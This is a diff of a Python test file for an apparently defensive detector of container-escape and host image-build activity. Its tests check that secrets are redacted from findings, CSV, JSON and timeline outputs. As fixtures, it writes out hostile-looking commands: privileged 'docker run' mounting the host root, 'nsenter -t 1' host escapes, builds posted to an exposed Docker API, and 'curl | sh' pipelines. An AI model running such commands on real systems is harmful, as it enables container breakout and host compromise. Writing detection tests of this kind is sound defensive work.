@@ -1,88 +1,59 @@
-"""Secrets of a command line appear in nothing that is shown of a finding.
+"""Secrets appear in nothing that is shown: one corpus, in every place, by every verb and writer.
 
-Each line fires signals of HARDENED and holds a secret in one of the spellings; what is
-random is the secret. The event itself, which a finding borrows, is no output.
+The event itself, which a finding borrows, is no output. A text of the corpus holds its
+secret in the place that it names; that the same outputs would show it, were it not taken out,
+is checked for each of them.
 """
 
 from __future__ import annotations
 
 import io
 import json
+import pickle
+import shlex
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from t1612core import Detector, Finding
-from t1612core.output import csvfile, explanation, jsonl, table
+from t1612core import (
+    Correlator,
+    Detector,
+    Finding,
+    Kind,
+    correlate,
+    score_dockerfile,
+    score_file,
+    score_network,
+    score_process,
+)
+from t1612core.container.dockerfile import redaction
+from t1612core.output import csvfile, explanation, jsonl, rows, table, timeline
+from t1612core.text import redact
+
+from .network.rows import ids, vectors
 
 EXPERT = Detector()
-# No part of a line or of a signal is made of these letters.
+SCORES = {"process": score_process, "file": score_file, "network": score_network}
+CORPUS = vectors("secrets")
+SECRET = [row for row in CORPUS if row["secret"]]
+HIDDEN = [(row, place) for row in SECRET for place in row["places"]]
+SHOWN = [row for row in CORPUS if not row["secret"]]
+# No part of a text or of a signal is made of these letters.
 SECRETS = st.text("QZXV0123456789-_~", min_size=6, max_size=24).map(lambda text: f"Q{text}Z")
+BUILD = "docker build --no-cache -t nginx /tmp/x"
 
-BUILD = "docker build -t nginx"
-POST = "-X POST http://192.0.2.1:2375/build?remote=https://h.example/x"
-LINES = (
-    f"{BUILD} https://h.example/x.tar?private_token={{}}&a=b",
-    f"{BUILD} https://h.example/x.tar?token={{}}",
-    f"{BUILD} https://h.example/x.tar?sv=1&sig={{}}",
-    f"{BUILD} https://h.example/x.tar?X-Amz-Signature={{}}",
-    f"{BUILD} https://u:{{}}@h.example/x.git",
-    f"{BUILD} https://{{}}@h.example/x.git",
-    f"{BUILD} git://{{}}@h.example/x.git",
-    f"{BUILD} --build-arg A={{}} /tmp/x",
-    f"{BUILD} --build-arg=A={{}} /tmp/x",
-    f'{BUILD} --build-arg "A=b {{}}" /tmp/x',
-    f'{BUILD} --build-arg "A B={{}}" /tmp/x',
-    f'{BUILD} "--build-arg" "A={{}}" /tmp/x',
-    f"{BUILD} --bu''ild-arg A={{}} /tmp/x",
-    f"{BUILD} --build-a A={{}} /tmp/x",
-    f"{BUILD} --label token={{}} /tmp/x",
-    f"{BUILD} --cache-to type=s3,region=x,secret_access_key={{}},ref=y /tmp/x",
-    f"{BUILD} --cache-to type=registry,ref=u:{{}}@r.example/x /tmp/x",
-    f"GITHUB_TOKEN={{}} {BUILD} /tmp/x",
-    f"sh -c 'export X_SECRET={{}}; {BUILD} /tmp/x'",
-    f"sh -c 'docker login -u u -p {{}} && {BUILD} /tmp/x'",
-    f"""sh -c '{BUILD} --build-arg "A=a '"'"' {{}}" /tmp/x' """,
-    "docker buildx bake --set *.args.X={} --set a.context=/tmp/x",
-    "docker buildx bake --set 'a.args.X=b {}' -f /tmp/x",
-    "docker buildx bake --var X={} -f /tmp/x",
-    "skopeo copy --dest-password {} dir:/tmp/x docker-daemon:a:1",
-    "skopeo copy --src-creds u:{} dir:/tmp/x docker-daemon:a:1",
-    "docker run -e TOKEN={} --privileged -v /:/h x",
-    "docker create --env A={} --privileged -v /:/h x",
-    "buildah commit -c 'ENV TOKEN={}' c nginx",
-    "docker commit --change 'ENV TOKEN {}' c nginx",
-    "bash -c 'openssl enc -d -aes-256-cbc -k {} -in x | docker build -'",
-    "bash -c 'openssl enc -d -aes-256-cbc -K {} -iv 0 | docker build -'",
-    "bash -c 'openssl enc -d -pass pass:{} -in x | docker build -'",
-    "bash -c 'curl https://h.example/D?token={} | docker build -'",
-    "bash -c 'curl -u u:{} https://h.example/D | docker build -'",
-    "bash -c 'sshpass -p {} ssh h true; docker build /tmp/x'",
-    f"curl -H 'PRIVATE-TOKEN: {{}}' {POST}",
-    f"curl -H 'JOB-TOKEN: {{}}' {POST}",
-    f"curl -H X-Api-Key:{{}} {POST}",
-    f'curl -H "Authorization: Bearer {{}}" {POST}',
-    f"curl -b session={{}} {POST}",
-    f"curl -sSE cert:{{}} {POST}",
-    f"curl -x http://u:{{}}@p.example {POST}",
-    f"curl -x u:{{}}@p.example {POST}",
-    f"curl --user=u:{{}} {POST}",
-    f"curl {POST}%3Ftoken%3D{{}}",
-    "python3 -c \"import requests;requests.post('http://192.0.2.1:2375/build',auth=('u','{}'))\"",
-    "python3 -c \"import docker;c=docker.from_env();c.login('u','{}');c.images.build(path='.')\"",
-    "powershell -c \"irm h:2375/build -Method POST -Headers @{{Authorization='{}'}}\"",
-    "powershell -c \"irm h:2375/build -Method POST -Headers @{{'JOB-TOKEN'='{}'}}\"",
-)
+Case = tuple[Kind, dict[str, str]]
 
 
-def event(line: str, program: str) -> dict[str, str]:
-    return {
+def process(line: str, program: str = "bash", parent: str = "nginx") -> Case:
+    return "process", {
         "FileName": program,
         "ProcessCommandLine": line,
         "InitiatingProcessFileName": "nginx",
-        "InitiatingProcessCommandLine": line,
+        "InitiatingProcessCommandLine": parent,
         "InitiatingProcessParentFileName": "sshd",
         "AccountName": "www-data",
     }
@@ -93,31 +64,149 @@ def program_of(line: str) -> str:
     return "bash" if "=" in first else first
 
 
-def shown(finding: Finding) -> Iterator[str]:
+def dockerfiles(text: str) -> Iterator[str]:
+    """Run a script in every form that a RUN has, each time by a program that is a signal."""
+    quoted = shlex.quote(text)
+    yield f"FROM a\nRUN nsenter -t 1 -m sh -c {quoted}\n"
+    yield f"FROM a\nRUN nsenter -t 1 -m {text}\n"
+    yield f"FROM a\nRUN nsenter -t 1 -m sh -c \\\n  # comment\n {quoted}\n"
+    yield f"FROM a\nRUN <<E\nset -e\nnsenter -t 1 -m sh -c {quoted}\nE\n"
+    yield f"FROM a\nONBUILD RUN nsenter -t 1 -m sh -c {quoted}\n"
+    yield "FROM a\nRUN " + json.dumps(["nsenter", "-t", "1", "-m", "sh", "-c", text]) + "\n"
+
+
+def contents(text: str, place: str) -> Iterator[str]:
+    """Put a text of the corpus into Dockerfiles."""
+    if place == "RUN script":
+        yield from dockerfiles(text)
+    elif place == "instruction":
+        yield f"{text}\nFROM a\n" if text.startswith("#") else f"FROM a\n{text}\n"
+    elif place == "URL":
+        yield f"FROM a\nADD {text} /x\nRUN curl {text} | sh\nRUN nsenter -t 1 -m git clone {text}\n"
+
+
+def cases(text: str, place: str) -> Iterator[Case]:
+    """Put a text of the corpus where its place says, beside something that is evidence."""
+    match place:
+        case "command line":
+            yield process(text, program_of(text), text)
+        case "shell script":
+            yield process(f"bash -c {shlex.quote(f'{text}; {BUILD}')}")
+            yield process(f"bash -c {shlex.quote(f'{BUILD} && {text}')}")
+            yield process(f"bash -c {shlex.quote(f'{text}{chr(10)}docker run --privileged nginx')}")
+        case "parent's line":
+            for fed in (f"{text} | sh", f"{text} | docker build -t nginx -"):
+                kind, made = process(BUILD, "docker", f"bash -c {shlex.quote(fed)}")
+                yield kind, {**made, "InitiatingProcessFileName": "bash"}
+        case "standard input":
+            yield process(f"bash -c {shlex.quote(f'{text} | docker build -t nginx -')}")
+            fed = f"docker build - <<EOF\n{next(dockerfiles(text))}EOF"
+            yield process(f"bash -c {shlex.quote(fed)}")
+        case "tag":
+            yield process(f"docker build -t {text} --build-context x=/tmp/x /tmp/x", "docker")
+        case "URL":
+            yield process(f"docker build -t nginx {text}", "docker")
+            yield process(f"bash -c 'curl {text} | docker build -'")
+            yield "network", {"InitiatingProcessFileName": "dockerd", "RemoteUrl": text}
+    for content in contents(text, place):
+        yield (
+            "file",
+            {"FileName": "Dockerfile", "FolderPath": "/tmp/.x", "FileContent": content},
+        )
+
+
+def written(finding: Finding) -> Iterator[str]:
     """Everything that is written of a finding."""
     yield from (finding.detail, finding.description, finding.host, finding.account)
     yield from (seen.text for seen in finding.evidence)
-    yield repr(finding.evidence)
-    yield json.dumps(jsonl.to_mapping(finding))
+    yield repr((finding, finding.evidence, finding.tuned))
+    yield jsonl.line(finding, {"file": "x", "line": 1})
+    yield repr(rows.to_row(finding))
     file = io.StringIO()
     csvfile.write([finding], file)
     yield file.getvalue()
-    yield repr(list(table.lay_out([finding], 400)))
+    yield repr(list(table.lay_out([finding], 4_000)))
+    yield repr(pickle.dumps(finding.detached()))
 
 
-@pytest.mark.parametrize("line", LINES)
-@settings(max_examples=20)
+def outputs(kind: Kind, event: dict[str, str]) -> Iterator[str]:
+    """Everything that any verb shows of an event."""
+    event = {**event, "DeviceName": "h", "TimeGenerated": "2026-03-02T10:00:00Z"}
+    finding = SCORES[kind](event)
+    if finding is not None:
+        yield from written(finding)
+    explained = EXPERT.explain(event, kind=kind)
+    yield repr((explained.branches, explained.considered))
+    yield json.dumps(explanation.to_mapping(explained))
+    yield repr(list(explanation.lay_out(explained, "x", 4_000)))
+    correlator = Correlator()
+    for seen in EXPERT.observe(event, kind=kind):
+        yield repr(seen)
+        correlator.feed(seen)
+    yield json.dumps(correlator.snapshot())
+    for incident in correlate([event]):
+        yield repr(incident)
+        yield json.dumps(timeline.to_mapping(incident))
+        yield repr(list(timeline.lay_out(incident, 4_000)))
+
+
+def shown(text: str, place: str) -> Iterator[str]:
+    """Everything that is shown of a text of the corpus."""
+    for content in contents(text, place):
+        yield repr(score_dockerfile(content))
+    for case in cases(text, place):
+        yield from outputs(*case)
+
+
+@pytest.mark.parametrize(
+    ("row", "place"), HIDDEN, ids=[f"{row['id']}, {place}" for row, place in HIDDEN]
+)
+def test_a_secret_is_in_no_output(
+    row: dict[str, Any], place: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    secret = row["secret"]
+
+    assert not [text for text in shown(row["text"], place) if secret in text]
+
+    monkeypatch.setattr(redact, "secrets", lambda _: ())
+    monkeypatch.setattr(redaction, "secrets", lambda _: ())
+    monkeypatch.setattr(redaction, "is_secret_name", lambda _: False)
+
+    assert any(secret in text for text in shown(row["text"], place))
+
+
+@pytest.mark.parametrize("row", SECRET, ids=ids(SECRET))
+@settings(max_examples=5)
 @given(secret=SECRETS)
-def test_a_secret_is_in_no_output(line: str, secret: str) -> None:
-    made = event(line.format(secret), program_of(line))
-    explained = EXPERT.explain(made, kind="process")
-    finding = EXPERT.score(made)
-    texts = [
-        repr(explained.branches),
-        json.dumps(explanation.to_mapping(explained)),
-        repr(list(explanation.lay_out(explained, "x", 400))),
-        *(shown(finding) if finding else ()),
-    ]
+def test_it_is_taken_out_whatever_its_letters(row: dict[str, Any], secret: str) -> None:
+    text = row["text"].replace(row["secret"], secret)
 
-    assert any(branch.score for branch in explained.branches)
-    assert not [text for text in texts if secret in text]
+    assert row["id"] == "env-old" or secret not in redact.redact(text)
+
+
+@pytest.mark.parametrize("row", SHOWN, ids=ids(SHOWN))
+def test_what_is_no_secret_is_shown_whole(row: dict[str, Any]) -> None:
+    text = row["text"]
+    kind, event = process(f"bash -c {shlex.quote(f'{text}; {BUILD}')}")
+    finding = SCORES[kind](event)
+    (seen, *_) = score_dockerfile(
+        f"FROM a\nRUN nsenter -t 1 -m sh -c {shlex.quote(text)}\n"
+    ).evidence
+
+    assert finding is not None
+    assert event["ProcessCommandLine"] in finding.detail
+    assert seen.text.endswith(shlex.quote(text))
+
+
+@pytest.mark.parametrize("row", SECRET, ids=ids(SECRET))
+def test_a_place_is_that_of_the_secret(row: dict[str, Any]) -> None:
+    """What stands between the places is what is left, and the secret lies in one of them."""
+    text, at = row["text"], row["text"].index(row["secret"])
+    places = redact.secrets(text)
+
+    assert list(places) == sorted(places)
+    assert redact.redact(text).split(redact.REDACTED) == [
+        text[end:start]
+        for (_, end), (start, _) in zip([(0, 0), *places], [*places, (len(text), 0)], strict=True)
+    ]
+    assert row["id"] == "env-old" or any(start <= at < end for start, end in places)
